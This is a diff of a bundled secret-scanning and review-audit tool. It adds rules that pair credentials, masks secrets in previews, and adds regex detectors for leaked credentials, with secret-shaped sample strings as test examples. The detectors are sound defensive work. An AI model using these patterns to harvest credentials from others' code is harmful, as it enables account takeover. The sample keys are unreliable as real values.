+        if ('ambiguous' in t)
+            throw new ConfigurationError(`${t.base} and HEAD have ${t.ambiguous} merge-bases; merge ${t.base} so there is exactly one.`);
+        const policy = await loadReviewPolicy(t.git, t.mergeBase, CONFIG_PATH, { auditLog: stringArg(args, 'audit-log') }, '');
+        if (!policy.auditLog)
+            throw new ConfigurationError(`no audit log configured; set review_hash.audit_log in ${CONFIG_PATH} or pass --audit-log FILE.`);
+        const top = await t.git.text(['rev-parse', '--show-toplevel']);
+        const file = (0,external_node_path_namespaceObject.resolve)(top, policy.auditLog);
+        const inRepo = (0,external_node_path_namespaceObject.relative)(top, file);
+        if (inRepo.startsWith('..') || (0,external_node_path_namespaceObject.isAbsolute)(inRepo))
+            throw new ConfigurationError(`--audit-log ${policy.auditLog} is outside the repository.`);
+        const reviewHash = await policyFingerprint(t.git, t.mergeBase, await reviewTree(t.git, staged ? 'index' : 'HEAD'), { ...policy, auditLog: inRepo });
+        const seen = stringArg(args, 'review-hash')?.trim().toLowerCase();
+        if (seen !== undefined && seen !== reviewHash)
+            throw new ConfigurationError(`--review-hash ${seen} is not the current Review-Hash (${reviewHash}); the code changed since that review, review it again.`);
+        const record = { reviewId, reviewHash, reviewer, status: status, time: Date.now() };
+        validateAuditRecord(record, policy.reviewIdPattern);
+        const existing = (0,external_node_fs_.existsSync)(file) ? await (0,promises_namespaceObject.readFile)(file, 'utf8') : '';
+        await (0,promises_namespaceObject.mkdir)((0,external_node_path_namespaceObject.dirname)(file), { recursive: true });
+        await (0,promises_namespaceObject.writeFile)(file, appendAuditLine(existing, auditEntryLine(record)));
+        await t.git.run(['add', '--', inRepo]);
+        let commit;
+        if (!staged) {
+            // Only the log is committed (--only), whatever else is staged; the log is outside the hash, and
+            // hooks are skipped because this commit adds no code for them to judge.
+            await t.git.run(['commit', '--quiet', '--no-verify', '--only', '-m', `Record review ${reviewId}: ${status} by ${reviewer}`, '--', inRepo]);
+            commit = await t.git.resolve('HEAD');
+        }
+        io.stdout(args.values.json
+            ? `${JSON.stringify({ reviewId, reviewHash, reviewer, status, auditLog: inRepo, commit: commit ?? null })}\n`
+            : `Recorded ${status} of ${reviewHash} (review ${reviewId} by ${reviewer}) in ${inRepo}${commit ? ` (commit ${commit.slice(0, 12)})` : ' (staged)'}.\n`);
+        return EXIT.ok;
+    },
+};
 
 ;// CONCATENATED MODULE: ./packages/core/src/scan/settings.ts
 
@@ -21122,6 +27842,39 @@ class keyword_index_KeywordIndex {
     }
 }
 
+;// CONCATENATED MODULE: ./packages/core/src/scan/pairs.ts
+/**
+ * Credentials issued as an id and a secret (an AWS access key id and its secret access key): one leak,
+ * so one finding — on the secret, naming the id's line — when both are reported close together.
+ */
+const PAIRS = [
+    { id: 'aws-access-key-id', secret: 'aws-secret-access-key', name: 'access key id' },
+    { id: 'twilio-api-key', secret: 'twilio-auth-token', name: 'API key SID' },
+];
+/** How far apart (in lines) the two halves may be: a config block or an environment file's neighbours. */
+const WITHIN_LINES = 5;
+function pairCredentials(findings) {
+    if (findings.length < 2)
+        return findings;
+    const merged = new Set();
+    for (const pair of PAIRS) {
+        for (const id of findings) {
+            if (id.ruleId !== pair.id || id.suppressed || merged.has(id))
+                continue;
+            const secret = findings.find((s) => s.ruleId === pair.secret &&
+                !s.suppressed &&
+                s.file === id.file &&
+                Math.abs(s.line - id.line) <= WITHIN_LINES &&
+                !s.description.includes(', with its '));
+            if (!secret)
+                continue;
+            secret.description = `${secret.description}, with its ${pair.name} on line ${id.line}`;
+            merged.add(id);
+        }
+    }
+    return merged.size ? findings.filter((f) => !merged.has(f)) : findings;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/scan/placeholders.ts
 /**
  * Values that are shaped like secrets but are not: template variables, redaction marks, documentation
@@ -21176,32 +27929,75 @@ const tokenRedactor = new Redactor();
 /**
  * The line around a finding with every detected secret on it masked. A credential keeps its first
  * characters (a public prefix such as `ghp_` or `AKIA` tells the reader what leaked); PHI keeps nothing.
+ * A rule's match can stop short of the token it sits in, and the same value can appear twice on a line
+ * (`key:key`, a log echoing it): so each span grows to its whole token run, and every other occurrence of
+ * a masked value on the line is masked too.
  */
 function redactedPreview(text, spans, focus) {
+    const masks = maskedRanges(text, spans);
     let masked = '';
     let cursor = 0;
-    for (const span of [...spans].sort((a, b) => a.start - b.start)) {
-        if (span.start < cursor)
-            continue;
-        masked += text.slice(cursor, span.start) + preview_mask(text.slice(span.start, span.end), span.revealPrefix);
-        cursor = span.end;
+    let focusAt = focus.start;
+    for (const range of masks) {
+        const replacement = preview_mask(text.slice(range.start, range.end), range.revealPrefix);
+        masked += text.slice(cursor, range.start) + replacement;
+        // Re-locate the focus in the masked text: shift by what masking before it removed.
+        if (range.end <= focus.start)
+            focusAt -= range.end - range.start - replacement.length;
+        else if (range.start <= focus.start)
+            focusAt = masked.length - replacement.length;
+        cursor = range.end;
     }
     masked += text.slice(cursor);
-    // Re-locate the focus in the masked text: shift by what masking before it removed.
-    let shift = 0;
-    for (const span of spans)
-        if (span.end <= focus.start)
-            shift += span.end - span.start - preview_mask(text.slice(span.start, span.end), span.revealPrefix).length;
-    const start = Math.max(0, focus.start - shift - CONTEXT);
-    const end = Math.min(masked.length, focus.start - shift + CONTEXT * 2);
+    const start = Math.max(0, focusAt - CONTEXT);
+    const end = Math.min(masked.length, focusAt + CONTEXT * 2);
     const window = (start > 0 ? '…' : '') + masked.slice(start, end).trim() + (end < masked.length ? '…' : '');
     return tokenRedactor.redact(window.replace(CONTROL_CHARACTERS, ' '));
 }
+// A token run: what a secret may continue into. Quotes, spaces, brackets and separators end it; `=` ends
+// it only going backwards (an assignment), since base64 padding follows the value.
+const RUN_FORWARD = /[^\s"'`,;|<>()[\]{}&:]/;
+const RUN_BACKWARD = /[^\s"'`,;|<>()[\]{}&:=]/;
+const MIN_REPEAT = 4;
+/** Sorted, non-overlapping ranges to mask: each span widened to its token run, plus repeats of each value. */
+function maskedRanges(text, spans) {
+    const ranges = [];
+    for (const span of spans) {
+        let { start, end } = span;
+        while (start > 0 && RUN_BACKWARD.test(text[start - 1]))
+            start--;
+        while (end < text.length && RUN_FORWARD.test(text[end]))
+            end++;
+        ranges.push({ start, end, revealPrefix: span.revealPrefix });
+    }
+    // Every other copy of a masked value: the value without the prefix the mask would show, so a repeat
+    // preceded by something else is still found.
+    const values = [...spans, ...ranges].map((r) => ({ value: text.slice(r.start, r.end), revealPrefix: r.revealPrefix }));
+    for (const { value, revealPrefix } of values) {
+        const shown = preview_mask(value, revealPrefix).replace(preview_REDACTED, '');
+        const core = value.slice(shown.length);
+        if (core.length < MIN_REPEAT)
+            continue;
+        for (let at = text.indexOf(core); at !== -1; at = text.indexOf(core, at + 1))
+            ranges.push({ start: at, end: at + core.length, revealPrefix: false });
+    }
+    ranges.sort((a, b) => a.start - b.start || b.end - a.end);
+    const merged = [];
+    for (const r of ranges) {
+        const last = merged.at(-1);
+        if (last && r.start <= last.end)
+            last.end = Math.max(last.end, r.end);
+        else
+            merged.push({ ...r });
+    }
+    return merged;
+}
+const preview_REDACTED = '[REDACTED]';
 const PUBLIC_PREFIX = /^(?:-----BEGIN[ A-Z]*-----|[A-Za-z]{2,10}[_.-](?:v1_|live_|test_|api03-|pat_)?|AKIA|ASIA|ABIA|ACCA|A3T[A-Z0-9]|AIza|eyJ|ZXlK|SK|SG\.)/;
 /** `ghp_[REDACTED]`: at most the format's public prefix (12 characters) survives, never secret characters. */
 function preview_mask(secret, revealPrefix) {
     const prefix = revealPrefix ? (PUBLIC_PREFIX.exec(secret)?.[0] ?? '') : '';
-    return `${prefix.length <= secret.length / 2 ? prefix.slice(0, 40) : ''}[REDACTED]`;
+    return `${prefix.length <= secret.length / 2 ? prefix.slice(0, 40) : ''}${preview_REDACTED}`;
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/scan/validators.ts
@@ -21293,127 +28089,7 @@ function base64JwtValid(value) {
     return decoded !== undefined && /^eyJ[\w-]+\.eyJ/.test(decoded);
 }
 
-;// CONCATENATED MODULE: ./packages/core/src/scan/rules/generic.ts
-
-/**
- * `secret/password/token = "…"` in any common syntax (code, YAML, INI, JSON, XML, shell), gated by the
- * name it is assigned to and by the value's entropy — the catch-all behind the provider-specific rules.
- */
-const NAME_WORDS = [
-    'secret',
-    'passw',
-    'pwd',
-    'token',
-    'apikey',
-    'api_key',
-    'api-key',
-    'auth',
-    'credential',
-    'creds',
-    'private',
-    'accesskey',
-    'access_key',
-    'access-key',
-    'key',
-    'login',
-    'bearer',
-];
-// Names containing a keyword that are not secrets (public keys, key names, ids, URLs, lengths …).
-const NAME_STOP = /(public|primary|foreign|sort|partition|cache|lookup|hotkey|keyboard|monkey|keyword|keystore|keytab|keyfile|keyframe|keying|keypair|keysize|keyspace|keycode|keydown|keyup|turkey|donkey|jockey|hockey|whiskey|csrf|xsrf|author(?!i[sz])|tokenizer|signal|signature|design|assign|sigma|signup|signin|login_?url|author)/i;
-const NAME_TAIL_STOP = /(id|ids|name|names|url|uri|urls|endpoint|file|filename|path|dir|size|length|len|type|version|mode|format|hash|count|index|event|field|prefix|suffix|header|label|pressed|map|mapping|column|ref|env|var|variable|policy|provider|algorithm|alg|expiry|expires|expiration|ttl|timeout|enabled|required|min|max|pattern|regex|schema|template|placeholder|hint|description|message|msg|text|title|type_?name)["'`]?$/i;
-const CODE_REFERENCE = /^[A-Za-z_$][\w$]*(\.[A-Za-z_$][\w$]*)+(\(\))?$/;
-const IDENTIFIER_STYLE = /^([a-z]+(_[a-z0-9]+)+|[a-z]+([A-Z][a-z0-9]+)+|[A-Z][a-z]+([A-Z][a-z0-9]+)*|[A-Z0-9]+(_[A-Z0-9]+)+|[a-z]+|[A-Z][a-z0-9]+)$/;
-const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
-const PURE_WORDS = /^[a-z]+([-_ ][a-z]+)*$/i;
-function looksLikeCode(value) {
-    if (CODE_REFERENCE.test(value) && (value.match(/\d/g)?.length ?? 0) <= 6) {
-        const segments = value.replace(/\(\)$/, '').split('.');
-        if (segments.slice(1).some((s) => IDENTIFIER_STYLE.test(s)))
-            return true;
-    }
-    return /^(true|false|null|nil|none|undefined)$/i.test(value) || /^(https?|file):\/\//i.test(value) || /^[./~]*\/[\w./-]*$/.test(value);
-}
-function genericValueIsSecret(value, key) {
-    const name = key ?? '';
-    if (NAME_STOP.test(name) || NAME_TAIL_STOP.test(name))
-        return false;
-    if (looksLikeCode(value) || PURE_WORDS.test(value))
-        return false;
-    const isPassword = /passw|pwd/i.test(name);
-    if (UUID.test(value) && !/(token|secret|passw|pwd|api_?key|apikey)$/i.test(name.replace(/["'`]$/, '')))
-        return false;
-    // Hex digests next to hash-like names are checksums, not secrets.
-    if (/^[0-9a-f]{32,128}$/i.test(value) && /(sha|md5|checksum|digest|integrity|commit|rev)/i.test(name))
-        return false;
-    const entropy = shannonEntropy(value);
-    if (isPassword)
-        return value.length >= 6 && entropy >= 2.5 && /[^a-z]/i.test(value);
-    if (value.length < 10)
-        return false;
-    // Long all-digit values (numeric client secrets) count only under an unmistakable name.
-    if (/^\d+$/.test(value))
-        return value.length >= 16 && /(token|secret|apikey|api_key)["'`]?$/i.test(name) && entropy >= 2.8;
-    // Needs some mix: at least one digit or symbol among letters, or a long random-looking value.
-    const mixed = /\d/.test(value) && /[a-z]/i.test(value);
-    return entropy >= (mixed ? 3.0 : 3.5);
-}
-const OPERATOR = String.raw `["'\`]?[ \t]*(?:\s(?:string|str|String|const|final))?[ \t]*(?::{1,3}=|\?=|\.=|\|\|=|=>|->|<-|==?|:|>|,)[ \t]*@?`;
-const VALUE = String.raw `["'\`]?(?<secret>[^\s"'\`,;\\<>(){}\[\]|]{6,256})`;
-// Anchored at the start of the identifier, so the engine does not retry inside every word.
-const NAME = String.raw `(?<![\w.-])(?<key>[\w.-]*?(?:${NAME_WORDS.join('|')})[\w.-]*)`;
-const genericAssignment = {
-    id: 'generic-secret-assignment',
-    category: 'credential',
-    severity: 'high',
-    confidence: 'medium',
-    description: 'A secret, password or token assigned to a variable or config key',
-    keywords: NAME_WORDS,
-    pattern: new RegExp(NAME + OPERATOR + VALUE, 'gi'),
-    validate: (secret, context) => genericValueIsSecret(secret, context.key),
-    examples: {
-        positive: [
-            'db_password = "Tr0ub4dor&3xq"',
-            "client_secret: 'Zf3D0LXCM3EIMbgJpUNnkRtOfOueHznB'",
-            'export API_TOKEN=KIjjHCqoDnQZ2AXPW4q71orFwKwYpN',
-            '"apiKey": "q8Lk2mZx9VbN4tRw7YpE3sHd"',
-            'String authToken = "J1prR2zWJ0mAAyqIQyqXvTtbB3IwW1hKMdyvHZ4f";',
-        ],
-        negative: [
-            'password = "${DB_PASSWORD}"',
-            'api_key: <your-api-key>',
-            'token = process.env.TOKEN',
-            'secret_length = X25519.secret_length',
-            'credentialsId: "ff083f76-7804-4ef1-80e4-fe975bb9141b"',
-            'public_key = "9Cnzj4p4WGeKLs1Pt8QuKUpRKfFLfRYC9AIKjbJTWit"',
-            'access_token_url = "https://github.com/login/oauth/access_token"',
-            'password: changeme',
-            'commit_sha = "9a038989604e8da62ecddbe2094b16ce1b778be1"',
-            'const keyStr = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"',
-        ],
-    },
-};
-const NAMES_A_SECRET = new RegExp(NAME_WORDS.join('|'), 'i');
-/** `<apiToken>` on one line and the bare value on the next (XML, plist). */
-const genericElementValue = {
-    id: 'generic-secret-element',
-    category: 'credential',
-    severity: 'high',
-    confidence: 'medium',
-    description: 'A secret, password or token as the text of an XML element',
-    // The tag on the line before must name a secret: its name words are the keywords, looked for there.
-    keywords: NAME_WORDS,
-    keywordsOnPreviousLine: true,
-    previousLine: /<[\w.:-]+>\s*$/,
-    pattern: /^\s*(?<secret>[^\s<>"']{10,256})\s*$/g,
-    validate: (secret, context) => {
-        const tag = /<(?<key>[\w.:-]+)>\s*$/.exec(context.previous)?.groups?.key;
-        return tag !== undefined && NAMES_A_SECRET.test(tag) && genericValueIsSecret(secret, tag);
-    },
-    examples: { positive: [], negative: ['    plain words here', '<version>\n    1.2.3-SNAPSHOT-abcdef'] },
-};
-
 ;// CONCATENATED MODULE: ./packages/core/src/scan/rules/credentials.ts
-
 
 function cred(id, description, spec, examples) {
     const confidence = spec.confidence ?? 'high';
@@ -21455,7 +28131,7 @@ const CREDENTIAL_RULES = [
         ],
         negative: ['AccountKey=<key>'],
     }),
-    cred('azure-ad-client-secret', 'Azure AD (Entra) client secret', { keywords: ['q~'], pattern: /(?:^|[\s"'`=:(,])(?<secret>[a-zA-Z0-9_~.]{3}\dQ~[a-zA-Z0-9_~.-]{31,34})(?![\w~.-])/g }, {
+    cred('azure-ad-client-secret', 'Azure AD (Entra) client secret', { keywords: ['q~'], pattern: /(?:^|[\s"'`=:(,>])(?<secret>[a-zA-Z0-9_~.]{3}\dQ~[a-zA-Z0-9_~.-]{31,34})(?![\w~.-])/g }, {
         positive: ['client_secret = "bP88Q~rcBcYjzWOWPLWqBYOMQFhXMzMPPNFjDaZZ"'],
         negative: ['Q~ alone'],
     }),
@@ -21543,7 +28219,7 @@ const CREDENTIAL_RULES = [
     }),
     cred('ai-provider-key', 'AI provider key (Hugging Face, Groq, Perplexity, Cohere-style prefixed keys)', {
         keywords: ['hf_', 'api_org_', 'gsk_', 'pplx-', 'xai-', 'r8_'],
-        pattern: /\b(?<secret>hf_[a-zA-Z]{34}|api_org_[a-zA-Z]{34}|gsk_[a-zA-Z0-9]{52}|pplx-[a-zA-Z0-9]{48}|xai-[a-zA-Z0-9]{80}|r8_[a-zA-Z0-9]{37})\b/g,
+        pattern: /\b(?<secret>hf_[a-zA-Z0-9]{34}|api_org_[a-zA-Z0-9]{34}|gsk_[a-zA-Z0-9]{52}|pplx-[a-zA-Z0-9]{48}|xai-[a-zA-Z0-9]{80}|r8_[a-zA-Z0-9]{37})\b/g,
         minEntropy: 3,
     }, {
         positive: ['HF_TOKEN=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'],
@@ -21709,7 +28385,7 @@ const CREDENTIAL_RULES = [
                 String.raw `ops_eyJ[a-zA-Z0-9+/]{250,}={0,3}`,
                 String.raw `sq0(?:atp|csp)-[\w-]{22,60}|EAAA[\w-]{60}`,
                 String.raw `sl\.u\.[\w-]{140,}|sl\.[\w-]{135,}`,
-                String.raw `figd_[\w-]{40}`,
+                String.raw `figd_[\w-]{38,60}`,
                 String.raw `ntn_[0-9]{11}[A-Za-z0-9]{32}[A-Za-z0-9]{3}`,
                 String.raw `CLOJARS_[a-z0-9]{60}`,
                 String.raw `A3-[A-Z0-9]{6}-(?:[A-Z0-9]{11}|[A-Z0-9]{6}-[A-Z0-9]{5})-[A-Z0-9]{5}-[A-Z0-9]{5}-[A-Z0-9]{5}`,
@@ -21785,6 +28461,50 @@ const KEYED_PROVIDERS = [
         minEntropy: 3,
         examples: { positive: ['DD_API_KEY=3f9a1c7e5b2d8f4a6c0e9b7d5f3a1c8e'], negative: ['datadog_site = "datadoghq.com"'] },
     },
+    // Formats as gitleaks' rules for them describe: no public prefix, so the provider's name must be nearby.
+    {
+        id: 'dropbox-app-key',
+        name: 'Dropbox app key or short-lived token',
+        keywords: ['dropbox'],
+        value: '[a-z0-9]{15}',
+        minEntropy: 3,
+        examples: { positive: ['DROPBOX_TOKEN=tqx6lyzlrq8lxny'], negative: ['dropbox_folder = "backupfolders"'] },
+    },
+    {
+        id: 'sumologic-access-id',
+        name: 'Sumo Logic access id',
+        keywords: ['sumologic', 'sumo_'],
+        value: 'su[a-zA-Z0-9]{12}',
+        minEntropy: 3,
+        examples: { positive: ['SUMO_ACCESS_ID = "suGyI5imvADdvU"'], negative: ['sumo_region = "us2"', 'sumOfExposures = sumOfExposures;'] },
+    },
+    {
+        id: 'sourcegraph-access-token-keyed',
+        name: 'Sourcegraph access token (legacy 40 hex)',
+        keywords: ['sourcegraph'],
+        value: '[a-fA-F0-9]{40}',
+        minEntropy: 3,
+        examples: { positive: ['sourcegraph: 6d2FabeB6ADd229Bc199FabA28fD3efb57dF0bD3'], negative: ['sourcegraph_url: https://sourcegraph.com'] },
+    },
+    {
+        id: 'jfrog-identity-token',
+        name: 'JFrog Artifactory identity token',
+        keywords: ['artifactory', 'jfrog'],
+        value: '[a-z0-9]{64}',
+        minEntropy: 3.5,
+        examples: {
+            positive: ['"artifactory", "id3givnjg6epvvl94klniaad0e3t5zcs5smk8ydwvlo2n5rcg7xr48z84i1ne39a"'],
+            negative: ['artifactory_url = "https://example.jfrog.io"'],
+        },
+    },
+    {
+        id: 'linear-client-secret',
+        name: 'Linear OAuth client secret',
+        keywords: ['linear'],
+        value: '[a-f0-9]{32}',
+        minEntropy: 3,
+        examples: { positive: ['LINEAR_CLIENT_SECRET=f150d9dadc3090a2920a20abe5ce26e0'], negative: ['linear_team = "ENG"'] },
+    },
 ];
 const NUGET_PASSWORD = cred('nuget-config-password', 'Clear-text password in NuGet.config', { keywords: ['cleartextpassword'], pattern: /key=["']ClearTextPassword["']\s+value=["'](?<secret>[^"']{1,200})["']/gi, revealPrefix: false }, {
     positive: ['<add key="ClearTextPassword" value="Sup3rS3cret!" />'],
@@ -21792,7 +28512,373 @@ const NUGET_PASSWORD = cred('nuget-config-password', 'Clear-text password in NuG
 });
 const credentials_escapeRegExp = (text) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
 const KEYED_RULES = KEYED_PROVIDERS.map(({ id, name, keywords, value, minEntropy, examples }) => cred(id, name, { keywords, pattern: near(keywords.map(credentials_escapeRegExp).join('|'), value), minEntropy, revealPrefix: false }, examples));
-const ALL_CREDENTIAL_RULES = [...CREDENTIAL_RULES, ...KEYED_RULES, NUGET_PASSWORD, genericAssignment, genericElementValue];
+
+;// CONCATENATED MODULE: ./packages/core/src/scan/rules/generic.ts
+
+/**
+ * `secret/password/token = "…"` in any common syntax (code, YAML, INI, JSON, XML, shell), gated by the
+ * name it is assigned to and by the value's entropy — the catch-all behind the provider-specific rules.
+ */
+const NAME_WORDS = [
+    'secret',
+    'passw',
+    'pwd',
+    'token',
+    'apikey',
+    'api_key',
+    'api-key',
+    'auth',
+    'credential',
+    'creds',
+    'private',
+    'accesskey',
+    'access_key',
+    'access-key',
+    'key',
+    'login',
+    'bearer',
+];
+// Names containing a keyword that are not secrets (public keys, key names, ids, URLs, lengths …).
+const NAME_STOP = /(public|primary|foreign|sort|partition|cache|lookup|hotkey|keyboard|monkey|keyword|keystore|keytab|keyfile|keyframe|keying|keypair|keysize|keyspace|keycode|keydown|keyup|turkey|donkey|jockey|hockey|whiskey|csrf|xsrf|author(?!i[sz])|tokenizer|signal|signature|design|assign|sigma|signup|signin|login_?url|author)/i;
+const NAME_TAIL_STOP = /(id|ids|name|names|url|uri|urls|endpoint|file|filename|path|dir|size|length|len|type|version|mode|format|hash|count|index|event|field|prefix|suffix|header|label|pressed|map|mapping|column|ref|env|var|variable|policy|provider|algorithm|alg|expiry|expires|expiration|ttl|timeout|enabled|required|min|max|pattern|regex|schema|template|placeholder|hint|description|message|msg|text|title|type_?name)["'`]?$/i;
+const CODE_REFERENCE = /^[A-Za-z_$][\w$]*(\.[A-Za-z_$][\w$]*)+(\(\))?$/;
+const IDENTIFIER_STYLE = /^([a-z]+(_[a-z0-9]+)+|[a-z]+([A-Z][a-z0-9]+)+|[A-Z][a-z]+([A-Z][a-z0-9]+)*|[A-Z0-9]+(_[A-Z0-9]+)+|[a-z]+|[A-Z][a-z0-9]+)$/;
+const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
+const PURE_WORDS = /^[a-z]+([-_ ][a-z]+)*$/i;
+function looksLikeCode(value) {
+    if (CODE_REFERENCE.test(value) && (value.match(/\d/g)?.length ?? 0) <= 6) {
+        const segments = value.replace(/\(\)$/, '').split('.');
+        if (segments.slice(1).some((s) => IDENTIFIER_STYLE.test(s)))
+            return true;
+    }
+    return /^(true|false|null|nil|none|undefined)$/i.test(value) || /^(https?|file):\/\//i.test(value) || /^[./~]*\/[\w./-]*$/.test(value);
+}
+/** A name that holds a secret's value, not one that describes it (`password_hint`, `token_url`, `publicKey`). */
+function nameHoldsSecret(name) {
+    return !NAME_STOP.test(name) && !NAME_TAIL_STOP.test(name);
+}
+/** Configuration references, URLs, paths, booleans: values that are code, not data. */
+function valueIsCode(value) {
+    return looksLikeCode(value) || PURE_WORDS.test(value);
+}
+function genericValueIsSecret(value, key) {
+    const name = key ?? '';
+    if (!nameHoldsSecret(name))
+        return false;
+    if (valueIsCode(value))
+        return false;
+    const isPassword = /passw|pwd/i.test(name);
+    if (UUID.test(value) && !/(token|secret|passw|pwd|api_?key|apikey)$/i.test(name.replace(/["'`]$/, '')))
+        return false;
+    // Hex digests next to hash-like names are checksums, not secrets.
+    if (/^[0-9a-f]{32,128}$/i.test(value) && /(sha|md5|checksum|digest|integrity|commit|rev)/i.test(name))
+        return false;
+    const entropy = shannonEntropy(value);
+    if (isPassword)
+        return value.length >= 6 && entropy >= 2.5 && /[^a-z]/i.test(value);
+    if (value.length < 10)
+        return false;
+    // Long all-digit values (numeric client secrets) count only under an unmistakable name.
+    if (/^\d+$/.test(value))
+        return value.length >= 16 && /(token|secret|apikey|api_key)["'`]?$/i.test(name) && entropy >= 2.8;
+    // Needs some mix: at least one digit or symbol among letters, or a long random-looking value.
+    const mixed = /\d/.test(value) && /[a-z]/i.test(value);
+    return entropy >= (mixed ? 3.0 : 3.5);
+}
+const OPERATOR = String.raw `["'\`]?[ \t]*(?:\s(?:string|str|String|const|final))?[ \t]*(?::{1,3}=|\?=|\.=|\|\|=|=>|->|<-|==?|:|>|,)[ \t]*@?`;
+const VALUE = String.raw `["'\`]?(?<secret>[^\s"'\`,;\\<>(){}\[\]|]{6,256})`;
+// Anchored at the start of the identifier, so the engine does not retry inside every word.
+const NAME = String.raw `(?<![\w.-])(?<key>[\w.-]*?(?:${NAME_WORDS.join('|')})[\w.-]*)`;
+const genericAssignment = {
+    id: 'generic-secret-assignment',
+    category: 'credential',
+    severity: 'high',
+    confidence: 'medium',
+    description: 'A secret, password or token assigned to a variable or config key',
+    keywords: NAME_WORDS,
+    pattern: new RegExp(NAME + OPERATOR + VALUE, 'gi'),
+    validate: (secret, context) => genericValueIsSecret(secret, context.key),
+    examples: {
+        positive: [
+            'db_password = "Tr0ub4dor&3xq"',
+            "client_secret: 'Zf3D0LXCM3EIMbgJpUNnkRtOfOueHznB'",
+            'export API_TOKEN=KIjjHCqoDnQZ2AXPW4q71orFwKwYpN',
+            '"apiKey": "q8Lk2mZx9VbN4tRw7YpE3sHd"',
+            'String authToken = "J1prR2zWJ0mAAyqIQyqXvTtbB3IwW1hKMdyvHZ4f";',
+        ],
+        negative: [
+            'password = "${DB_PASSWORD}"',
+            'api_key: <your-api-key>',
+            'token = process.env.TOKEN',
+            'secret_length = X25519.secret_length',
+            'credentialsId: "ff083f76-7804-4ef1-80e4-fe975bb9141b"',
+            'public_key = "9Cnzj4p4WGeKLs1Pt8QuKUpRKfFLfRYC9AIKjbJTWit"',
+            'access_token_url = "https://github.com/login/oauth/access_token"',
+            'password: changeme',
+            'commit_sha = "9a038989604e8da62ecddbe2094b16ce1b778be1"',
+            'const keyStr = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"',
+        ],
+    },
+};
+const NAMES_A_SECRET = new RegExp(NAME_WORDS.join('|'), 'i');
+/** `<apiToken>` on one line and the bare value on the next (XML, plist). */
+const genericElementValue = {
+    id: 'generic-secret-element',
+    category: 'credential',
+    severity: 'high',
+    confidence: 'medium',
+    description: 'A secret, password or token as the text of an XML element',
+    // The tag on the line before must name a secret: its name words are the keywords, looked for there.
+    keywords: NAME_WORDS,
+    keywordsOnPreviousLine: true,
+    previousLine: /<[\w.:-]+>\s*$/,
+    pattern: /^\s*(?<secret>[^\s<>"']{10,256})\s*$/g,
+    validate: (secret, context) => {
+        const tag = /<(?<key>[\w.:-]+)>\s*$/.exec(context.previous)?.groups?.key;
+        return tag !== undefined && NAMES_A_SECRET.test(tag) && genericValueIsSecret(secret, tag);
+    },
+    examples: { positive: [], negative: ['    plain words here', '<version>\n    1.2.3-SNAPSHOT-abcdef'] },
+};
+
+;// CONCATENATED MODULE: ./packages/core/src/scan/rules/hardcoded.ts
+
+
+/**
+ * Hard-coded credentials in code (CWE-798): a string literal assigned to, or compared with, a name that
+ * holds a password or key. Unlike the generic rule these need no entropy — `if (password == "hunter2")`
+ * is the finding — so they report at medium (non-blocking by default); random-looking values are left
+ * to the generic rule, which reports them at high.
+ */
+const NAMES = String.raw `[\w.$-]*?(?:passw(?:or)?d|passwd|pwd|_pass|pass_|secret|api_?key|apikey|api-key|auth_?token|access_?token|private_?key|credentials?)[\w$-]*`;
+// The literal ends at its own closing quote: passwords may hold any other character, braces and all.
+const LITERAL = String.raw `(?<q>["'\`])(?<secret>(?:(?!\k<q>)[^\s\\]|\\.){4,200})\k<q>`;
+const COMPARE = String.raw `(?:===?|!==?|\beq\b|\bne\b|\.equals(?:IgnoreCase)?\(|\.Equals\()`;
+const ASSIGN = String.raw `(?::=|=>|=|:)`;
+const KEY = String.raw `(?<![\w.$-])(?<key>${NAMES})["'\]]?`;
+const literal = (n, secret) => LITERAL.replace(/<q>/g, `<q${n}>`).replace('<secret>', `<${secret}>`);
+const PATTERN = new RegExp([
+    String.raw `${KEY}\s*(?:${COMPARE}|${ASSIGN})\s*${LITERAL}`,
+    // <add key="password" value="…"/>, <entry key="password">…</entry> (the name is checked by the pattern)
+    String.raw `(?:key|name)\s*=\s*["'](?:${NAMES})["'](?:\s+value\s*=\s*["']|[^<>]*>)(?<secret2>[^"'<>\s]{4,200})(?=["'<])`,
+].join('|'), 'gi');
+// "literal" == password (Yoda comparisons)
+const REVERSED = new RegExp(String.raw `${literal('', 'secret')}\s*${COMPARE}\s*(?<key>${NAMES})(?![\w$.([-])`, 'gi');
+const hardcoded_escapeRegExp = (text) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+function literalIsCredential(secret, context) {
+    const key = context.key ?? '';
+    if (!nameHoldsSecret(key))
+        return false;
+    // Format strings and complete interpolations (${DB_PASS}, #{x}, {{ x }}, {0}, %s) are not values; a brace
+    // that opens nothing ("p${a]ss") is just a character of the password.
+    if (/%[sd]|\{\d*\}|[$#]\{[\w.:-]*\}|\{\{[^}]*\}\}/.test(secret))
+        return false;
+    // Prose ("Enter your password") never gets here (no spaces). Words-only values are labels ("Password") unless
+    // the code compares the credential with them, or they are long and mixed-case.
+    const compared = new RegExp(String.raw `(?:==|!=|equals(?:IgnoreCase)?\(|\beq|\bne)\s*["'\`]${hardcoded_escapeRegExp(secret)}["'\`]|["'\`]${hardcoded_escapeRegExp(secret)}["'\`]\s*(?:==|!=)`).test(context.line);
+    if (/^[a-z]+$/i.test(secret) && !compared && (secret.length < 6 || !/[A-Z]/.test(secret.slice(1))))
+        return false;
+    if (valueIsCode(secret) && !compared && !(/\d/.test(secret) && secret.length >= 6))
+        return false;
+    // A value that names what it stands for ("MyPassword1", "secret-key") is a sample, not a secret.
+    if (/passw|secret|apikey|api_key|token/i.test(secret))
+        return false;
+    return shannonEntropy(secret) >= 1.5;
+}
+const hardcodedCredential = {
+    id: 'hardcoded-credential',
+    category: 'credential',
+    severity: 'medium',
+    confidence: 'medium',
+    description: 'Hard-coded password or key compared with or assigned to a credential name (CWE-798)',
+    keywords: [
+        'passw',
+        'pwd',
+        '_pass',
+        'pass_',
+        'secret',
+        'apikey',
+        'api_key',
+        'api-key',
+        'auth_token',
